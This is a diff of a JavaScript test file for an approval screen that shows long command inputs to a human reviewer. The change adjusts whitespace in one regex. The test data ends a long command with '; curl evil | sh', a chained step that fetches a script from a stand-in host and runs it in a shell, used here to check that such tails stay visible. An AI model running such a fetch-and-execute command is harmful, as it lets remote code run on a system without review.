@@ -75,7 +75,7 @@ test('a long value says its size and shows its end; a hidden middle is said', ()
   assert.match(fieldFacts({ field: 'command', text: 'a⟪… 5 bytes hidden …⟫b', bytes: 70_000, escaped: 2, hidden: 5 }),
     /1 line · 70000 bytes · 2 characters shown as ⟪escapes⟫ · 5 bytes in the middle not shown/);
   const html = approvalHtml({ prompt: prompt({ inputs: [{ field: 'command', text: long, bytes: long.length, escaped: 0, hidden: 0 }] }), behind: 0, nonce: 'N', cspSource: 'x', nowMs: 0 });
-  assert.match(html, /It ends with:<\/p>\n    <pre class="tail">…a+ ; curl evil \| sh<\/pre>/);
+  assert.match(html, /It ends with:<\/p>\n {4}<pre class="tail">…a+ ; curl evil \| sh<\/pre>/);
 });
 
 test('the reason is said once, with what the detail adds to it', () => {
